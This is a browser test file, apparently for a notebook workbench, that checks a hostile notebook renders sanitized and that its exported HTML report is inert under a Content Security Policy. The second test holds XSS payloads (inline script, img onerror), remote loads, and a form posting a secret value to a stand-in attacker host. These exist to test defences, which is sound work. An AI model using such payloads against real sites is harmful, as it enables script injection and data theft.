/**
 * The browser's HTML report is inert, in headless Chromium: a share link of the hostile notebook
 * (test/report/hostile-notebook.ts) renders sanitized and clipped in the workbench, runs after Run,
 * and File → Export HTML report writes a page with no executable content and the CSP. Opened as a
 * page, the report runs nothing, requests nothing but itself and does not navigate; and its CSP
 * alone stops a script and a remote image put into it afterwards.
 */
import fs from "node:fs";
import path from "node:path";
import { expect, test } from "vitest";
import type { Page } from "playwright-core";
import { REPORT_CSP } from "../../src/report/report-document.ts";
import { shareFragment } from "../../src/ui/persistence/share-link.ts";
import { EVIL_HOST, HOSTILE_NOTEBOOK, activeContent } from "../report/hostile-notebook.ts";
import { useWorkbench } from "./helpers/setup.ts";
import { repoRoot } from "./helpers/static-server.ts";
import { waitForSettled } from "./helpers/workbench.ts";
import { downloaded, fileAction } from "./helpers/persistence.ts";
import type { WatchedPage } from "./helpers/browser.ts";

const workbench = useWorkbench();
const SHOTS = path.join(repoRoot, "test-results", "screenshots");
const REPORT_URL = "http://report.test/report.html";

/**
 * Opens `html` as a page of its own (served at REPORT_URL); returns the page, every URL that went to
 * the network (not stopped by the page's CSP) and those the CSP stopped.
 */
async function openReport(
  w: WatchedPage,
  html: string,
): Promise<{ page: Page; requests: string[]; refused: string[] }> {
  const page = await w.context.newPage();
  const requests: string[] = [];
  const refused: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  page.on("requestfailed", (request) => {
    // Chromium refuses these before any network request; Playwright reports the reason as "csp".
    if (request.failure()?.errorText === "csp") {
      refused.push(request.url());
      requests.splice(requests.indexOf(request.url()), 1);
    }
  });
  await page.route(REPORT_URL, (route) => route.fulfill({ status: 200, contentType: "text/html", body: html }));
  await page.goto(REPORT_URL);
  // Long enough for a meta refresh, an image error handler or an onload to have fired.
  await page.waitForTimeout(1500);
  return { page, requests, refused };
}

const pwned = (page: Page) => page.evaluate(() => (window as { __pwned?: unknown }).__pwned);

test("a hostile notebook's Markdown renders sanitized and clipped to its cell; its exported report is inert in Chromium", async () => {
  const w = await workbench.open();
  await w.page.goto(`${workbench.url()}#${shareFragment({ text: HOSTILE_NOTEBOOK })}`);
  await w.page.waitForSelector("[data-trust-banner]");
  const markdown = w.page.locator("[data-cell-kind=md] .markdown").first();
  await expect.poll(() => markdown.textContent()).toContain("Plain text survives.");
  // In the workbench: no styles, forms, handlers or scripts, and the box clips what it draws.
  const inPage = await markdown.evaluate((element) => ({
    active: element.querySelectorAll(
      "script, style, form, input, button, iframe, object, embed, meta, link, base, [style], [onerror], [onload], [ontoggle]",
    ).length,
    contain: getComputedStyle(element).contain,
  }));
  expect(inPage).toEqual({ active: 0, contain: "paint" });
  // For a reviewer: the hostile Markdown as the untrusted preview shows it, light and dark.
  fs.mkdirSync(SHOTS, { recursive: true });
  await w.page.screenshot({ path: path.join(SHOTS, "hostile-markdown-light.png") });
  await w.page.locator("[data-theme-toggle]").click();
  await w.page.screenshot({ path: path.join(SHOTS, "hostile-markdown-dark.png") });
  await w.page.locator("[data-theme-toggle]").click();
  await markdown.locator("a", { hasText: "click me" }).click();
  expect(await pwned(w.page)).toBeUndefined();

  await w.page.click("[data-trust-banner] [data-action=trust]");
  await waitForSettled(w.page);
  expect(await pwned(w.page)).toBeUndefined();

  const report = await downloaded(w.page, () => fileAction(w.page, "export-html"));
  expect(activeContent(report.text)).toEqual([]);
  expect(report.text).toContain(`<meta http-equiv="Content-Security-Policy" content="${REPORT_CSP}">`);
  expect(report.text).not.toContain(EVIL_HOST);
  expect(report.text).toContain('Interpolated: &lt;img src=x onerror="window.__pwned = 7"&gt; and 1');

  const opened = await openReport(w, report.text);
  expect(await pwned(opened.page)).toBeUndefined();
  await opened.page.locator("a", { hasText: "click me" }).click();
  expect(await pwned(opened.page)).toBeUndefined();
  expect(opened.page.url()).toBe(REPORT_URL);
  expect(opened.requests).toEqual([REPORT_URL]);
  expect(opened.refused).toEqual([]);
  expect(await opened.page.locator("h1").textContent()).toBe("Hostile report");

  // The workbench itself loaded only the hostile Markdown's remote image (before and after Run): the
  // app's Markdown keeps https images, its page CSP governs them; reports keep only data: images.
  expect(w.blockedRequests.filter((url) => url !== `https://${EVIL_HOST}/pixel.png`)).toEqual([]);
  expect(w.pageErrors).toEqual([]);
});

test("the report's CSP alone stops a script, a handler and remote loads put into it", async () => {
  const w = await workbench.open();
  const tampered = `<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="${REPORT_CSP}"></head><body>
<script>window.__pwned = "inline script"</script>
<img src="data:," onerror="window.__pwned = 'handler'">
<img src="https://${EVIL_HOST}/pixel.png">
<link rel="stylesheet" href="https://${EVIL_HOST}/style.css">
<form action="https://${EVIL_HOST}/collect" method="post"><input name="p" value="secret"><button id="send">Send</button></form>
</body></html>`;
  const { page, requests, refused } = await openReport(w, tampered);
  expect(await pwned(page)).toBeUndefined();
  // Submitted as a click would (Playwright's own evaluate is not subject to the page's CSP).
  await page.evaluate(() => document.querySelector("form")!.requestSubmit());
  await page.waitForTimeout(1000);
  expect(page.url()).toBe(REPORT_URL);
  expect(requests).toEqual([REPORT_URL]);
  expect(refused.sort()).toEqual([`https://${EVIL_HOST}/pixel.png`, `https://${EVIL_HOST}/style.css`]);
  expect(w.blockedRequests).toEqual([]);
});
